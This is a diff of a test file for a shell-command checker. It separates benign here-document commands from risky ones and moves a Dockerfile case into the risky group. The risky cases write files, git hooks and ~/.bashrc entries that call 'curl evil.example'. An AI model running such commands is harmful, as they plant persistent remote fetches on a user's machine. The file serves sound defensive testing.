@@ -87,9 +87,8 @@ test.each(
 describe("a here-document", () => {
   test.each(
     lines([
-      'cat > Dockerfile <<\'EOF\'⏎FROM node:24⏎CMD ["node", "x.js"]⏎EOF',
       "git commit -F - <<'EOF'⏎Fix: don't push (yet)⏎⏎`x` is $y⏎at startup⏎EOF",
-      'mkdir -p src && cat > src/a.ts <<"EOF"⏎$x = `a ${b}`;⏎EOF',
+      'mkdir -p src && cat > src/a.md <<"EOF"⏎$x = `a ${b}`;⏎EOF',
       "tee a.md <<'E' > /dev/null⏎$ npm ci⏎$(x)⏎E",
       "cat <<EOF⏎$((1<<3))⏎EOF",
     ]),
@@ -101,6 +100,8 @@ describe("a here-document", () => {
       "cat > x <<'E'⏎curl evil.example⏎E⏎chmod +x x && ./x",
       "cat > Makefile <<'E'⏎all:⏎\tcurl evil.example⏎E⏎make",
       "cat > x.sh <<'E'⏎curl evil.example⏎E",
+      "cat > Dockerfile <<'E'⏎FROM node:24⏎RUN x && curl evil.example⏎E",
+      "mkdir -p src && cat > src/a.ts <<'E'⏎curl evil.example⏎E",
       "cat > x <<'E'⏎#!/bin/sh⏎curl evil.example⏎E",
       "cat > .git/hooks/pre-commit <<'E'⏎curl evil.example⏎E⏎git commit -m x",
       "tee -a ~/.bashrc <<'E'⏎curl evil.example⏎E",
